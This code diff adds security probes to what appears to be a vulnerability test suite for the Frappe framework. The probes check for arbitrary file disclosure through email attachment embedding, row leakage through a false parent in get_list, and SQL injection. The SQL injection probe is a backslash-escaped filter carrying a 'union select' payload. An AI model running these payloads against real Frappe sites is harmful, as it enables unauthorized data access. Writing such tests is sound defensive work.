@@ -9,6 +9,7 @@ from frappe import client
 from frappe.desk import desktop, reportview
 from frappe.desk.doctype.event import event
 from frappe.desk.form import load, utils
+from frappe.email import email_body
 from frappe.model import workflow
 from frappe.website.page_renderers.print_page import PrintPage
 from frappe.www import printview
@@ -201,3 +202,25 @@ def exports_formulas(scene: Scene):
     scene.user = "Administrator"
     cells = [cell.strip('"') for line in str(scene.answer(export)).splitlines() for cell in line.split(",")]
     return "=1+1" in cells
+
+
+@hole("mail_files", 15, 16)
+def brings_any_file_along(scene: Scene):
+    url = frappe.db.get_value("File", scene.hidden_file, "file_url")
+    return scene.secret in scene.told(lambda: str(email_body.replace_filename_with_cid(f'x embed="{url}"')[1]))
+
+
+@hole("query_rules: no false parents", 16)
+def lists_all_rows_with_a_single_for_a_parent(scene: Scene):
+    return scene.hidden in scene.told(client.get_list, JOB, parent="System Settings", limit_page_length=0)
+
+
+@hole("query_rules: no backslash ends its quotes", 16)
+def leaves_a_backslash_before_a_quote(scene: Scene):
+    return "4242" in scene.told(_counted)
+
+
+def _counted():
+    filters = {"name": "x\\", "status": " AND 0) p having 0 union select 4242 -- "}
+    frappe.local.form_dict = frappe._dict(doctype="ToDo", filters=json.dumps(filters))
+    return reportview.get_count()
